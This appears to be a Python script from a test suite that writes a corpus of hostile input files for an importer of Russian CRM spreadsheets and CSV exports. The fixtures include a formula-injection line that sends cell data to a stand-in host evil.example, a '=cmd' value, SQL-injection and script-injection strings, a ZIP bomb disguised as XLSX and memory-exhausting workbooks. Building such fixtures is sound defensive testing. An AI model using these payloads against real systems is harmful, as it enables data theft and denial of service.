"""Write the hostile-file corpus (issue 11): `python tests/corpus/make_corpus.py [DIR]`.

Small files are committed next to this script; the large ones (a 10 MB cell, a ZIP bomb
disguised as XLSX) are made by `large_files(dir)` at test time so the repository stays small.
"""

from __future__ import annotations

import io
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))
import hostile_workbooks as hw  # noqa: E402

HEADER = "Название;Ответственный;Регион;ИНН;Потенциал;Дата закрытия;Сумма;Стадия сделки\n"


def small_files() -> dict[str, bytes]:
    """name → content of every committed corpus file."""
    rows = "ООО Ромашка;ivanov@example.ru;Москва;7707083893;100000;01.02.2026;1500;Успешно\n"
    files: dict[str, bytes] = {
        "cp1251_semicolon.csv": (HEADER + rows).encode("cp1251"),
        "utf8_bom_tab.csv": ("\ufeff" + (HEADER + rows).replace(";", "\t")).encode(),
        "utf16.csv": (HEADER + rows).encode("utf-16"),
        "empty.csv": b"",
        "only_header.csv": HEADER.encode(),
        "binary_garbage.csv": bytes(range(256)) * 64,
        "nul_bytes.csv": (HEADER + rows).encode().replace(b";", b"\x00;"),
        "formulas.csv": (
            HEADER
            + '=HYPERLINK("http://evil.example/?x="&A1;=1+1;+7;-2;@SUM(A1);'
            + "\t=cmd;\r=2;Успешно\n"
        ).encode(),
        "sql_and_html.csv": (
            HEADER
            + "Robert'); DROP TABLE clients;--;<script>alert(1)</script>;"
            + "<b>Москва</b>;7707083893;1;01.01.2026;1;' OR '1'='1\n"
        ).encode(),
        "dates_five_formats.csv": (
            HEADER
            + "А;;;;1;2026-01-31;1;Успешно\n"
            + "Б;;;;1;31.01.2026;1;Успешно\n"
            + "В;;;;1;01/31/2026;1;Успешно\n"
            + "Г;;;;1;31 января 2026;1;Успешно\n"
            + "Д;;;;1;1769817600;1;Успешно\n"
            + "Е;;;;1;2026-02-30;1;Успешно\n"
        ).encode(),
        "negative_and_huge_numbers.csv": (
            HEADER
            + "А;;;;-5;01.01.2026;-100;Успешно\n"
            + "Б;;;;1e308;01.01.2026;99999999999999999999999;Успешно\n"
            + "В;;;;NaN;01.01.2026;inf;Успешно\n"
            + "Г;;;;1,2,3;01.01.2026;12руб34;Успешно\n"
        ).encode(),
        "duplicate_ids.csv": (
            "ID;Название;Регион\n1;ООО Первое;Москва\n1;ООО Второе;Казань\n2;ООО Третье;Москва\n"
        ).encode(),
        "bad_inn.csv": ("Название;ИНН\nООО Ромашка;7707083894\nООО Лютик;12345\n").encode(),
        "ragged_rows.csv": ("Название;Регион\nООО А;Москва;лишнее;ещё\nООО Б\n").encode(),
        "unclosed_quote.csv": ('Название;Регион\n"ООО А;Москва\nООО Б;Казань\n').encode(),
        "html_renamed.xlsx": b"<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table>",
        "truncated.xlsx": _tiny_xlsx()[:300],
        "json_not_amocrm.json": b'{"hello": [1, 2, 3]}',
        "broken.json": b'{"_embedded": {"leads": [',
        # A valid workbook with one filled cell at the sheet's last row and column: a
        # reader that trusts it asks for 512 GB and aborts the process.
        "far_cell.xlsx": hw.far_cell_xlsx(),
        "shared_strings_bomb.xlsx": hw.shared_strings_bomb_xlsx(),
        "far_rows.ods": hw.ods_far_rows(),
        "trailing_empty_rows.ods": hw.ods_trailing_empty_rows(),
        "deep.json": b'{"_embedded": {"leads": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
        "wide.csv": (";".join(f"c{i}" for i in range(3000)) + "\n" + "1;" * 2999 + "1\n").encode(),
        "long_line.csv": ("Название;Регион\n" + "А" * 1_100_000 + ";Москва\n").encode(),
    }
    return files


def _tiny_xlsx() -> bytes:
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Название", "Регион"])
    sheet.write_row(1, 0, ["ООО А", "Москва"])
    book.close()
    return buf.getvalue()


def large_files(folder: Path) -> list[Path]:
    """Write the large hostile files into `folder` and return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    cell = folder / "ten_megabyte_cell.csv"
    cell.write_bytes(b"Name;Region\n" + b"A" * (10 * 1024 * 1024) + b";Moscow\n")
    bomb = folder / "zip_bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        chunk = b"<c>" + b"0" * (1024 * 1024) + b"</c>"
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(600):  # 600 MB uncompressed, about 600 KB on disk
                fh.write(chunk)
    many = folder / "many_entries.xlsx"
    with zipfile.ZipFile(many, "w") as zf:
        for i in range(20_000):
            zf.writestr(f"xl/x{i}.xml", "")
    return [cell, bomb, many]


def main() -> None:
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "files"
    target.mkdir(parents=True, exist_ok=True)
    for name, content in small_files().items():
        if len(content) <= 64 * 1024:  # the few bigger ones are made at test time only
            (target / name).write_bytes(content)
    print(f"{len(small_files())} files in {target}")


if __name__ == "__main__":
    main()
